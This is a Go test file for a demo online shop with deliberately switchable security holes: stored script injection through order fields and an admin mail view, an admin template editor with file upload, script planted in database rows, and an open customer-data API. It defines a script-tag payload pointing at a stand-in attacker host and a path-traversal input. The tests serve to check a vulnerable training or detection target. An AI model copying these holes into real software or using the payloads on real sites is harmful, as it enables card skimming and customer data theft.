package demoshop_test

import (
	"bytes"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch/demoshop"
)

const payload = `<script src="http://evil.localhost/x.js"></script>`

// operator is an operator who has logged in.
func operator(t *testing.T, shop *demoshop.Shop) *customer {
	c := visitor(t, shop)
	c.get("/admin/login")
	if c.post("/admin/login", "login_id", "admin", "password", shop.AdminPassword()); c.at != "/admin" {
		t.Fatalf("operator's log-in led to %s", c.at)
	}
	return c
}

func orderWithPayload(t *testing.T, shop *demoshop.Shop) {
	t.Helper()
	c := visitor(t, shop)
	c.fillCart()
	c.get("/checkout")
	if c.post("/checkout/place", join(person, []string{"company", payload}, delivery, card)...); c.at != "/checkout/complete" {
		t.Fatalf("the order led to %s", c.at)
	}
}

func TestStoredScriptRunsOnlyThroughTheHole(t *testing.T) {
	t.Parallel()
	for _, raw := range []bool{false, true} {
		shop := open(t, demoshop.Config{Holes: demoshop.Holes{RawOrderMail: raw}})
		orderWithPayload(t, shop)
		c := operator(t, shop)
		for path, runs := range map[string]bool{"/admin": false, "/admin/orders": false, "/admin/orders/K0000001": false, "/admin/orders/K0000001/mail": raw} {
			if _, body := c.get(path); strings.Contains(body, payload) != runs {
				t.Errorf("hole open %v: %s runs the script: %v", raw, path, !runs)
			}
		}
	}
}

func TestTemplateEditor(t *testing.T) {
	t.Parallel()
	closed := operator(t, open(t, demoshop.Config{}))
	if status, _ := closed.get("/admin/files"); status != http.StatusNotFound {
		t.Errorf("closed editor: %d", status)
	}
	shop := open(t, demoshop.Config{Holes: demoshop.Holes{TemplateEditor: true}})
	c := operator(t, shop)
	if _, body := c.get("/admin/files?file=templates/_card.html"); !strings.Contains(body, "cc-number") {
		t.Error("the editor does not show the file")
	}
	c.post("/admin/files", "file", "templates/guide.html", "text", `{{define "content"}}edited{{end}}`)
	if _, body := visitor(t, shop).get("/guide"); !strings.Contains(body, "edited") {
		t.Error("the edited template is not shown")
	}
	c.get("/admin/files")
	if status, _ := c.post("/admin/files", "file", "../../shop.db", "text", ""); status != http.StatusForbidden {
		t.Errorf("a file outside: %d", status)
	}

	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	form.WriteField("_token", c.token)
	form.WriteField("folder", "assets/js")
	file, err := form.CreateFormFile("upload", "extra.js")
	if err != nil {
		t.Fatal(err)
	}
	file.Write([]byte("uploaded()"))
	form.Close()
	r := request(t, "POST", c.base+"/admin/files", body.String())
	r.Header.Set("Content-Type", form.FormDataContentType())
	c.do(r)
	if b, err := os.ReadFile(filepath.Join(shop.Docroot(), "assets", "js", "extra.js")); err != nil || string(b) != "uploaded()" {
		t.Errorf("uploaded file: %q, %v", b, err)
	}
	if guest := visitor(t, shop); true {
		if guest.get("/admin/files"); guest.at != "/admin/login" {
			t.Errorf("a guest got to %s", guest.at)
		}
	}
}

func TestRowsThatExecute(t *testing.T) {
	t.Parallel()
	shop := open(t, demoshop.Config{})
	db := database(t, shop)
	for _, change := range []string{`UPDATE product SET free_area = ? WHERE slug = 'cup-komorebi'`, `UPDATE block SET html = ? WHERE place = 'footer'`} {
		if _, err := db.ExecContext(t.Context(), change, payload); err != nil {
			t.Fatal(err)
		}
	}
	if _, body := visitor(t, shop).get("/products/cup-komorebi"); strings.Count(body, payload) != 2 {
		t.Error("the changed rows do not show")
	}
}

func TestCustomerAPI(t *testing.T) {
	t.Parallel()
	closed := visitor(t, open(t, demoshop.Config{Customers: 5}))
	if status, _ := closed.get("/api/customers/1"); status != http.StatusNotFound {
		t.Errorf("closed: %d", status)
	}
	c := visitor(t, open(t, demoshop.Config{Customers: 150, Holes: demoshop.Holes{CustomerAPI: true}}))
	if _, body := c.get("/api/customers?after=100"); strings.Count(body, "@example.") != 50 {
		t.Error("the second page does not hold fifty customers")
	}
	if status, body := c.get("/api/customers/150"); status != http.StatusOK || !strings.Contains(body, `"postcode"`) {
		t.Errorf("open: %d %s", status, body)
	}
	if status, _ := c.get("/api/customers/151"); status != http.StatusNotFound {
		t.Errorf("a customer who is not there: %d", status)
	}
}
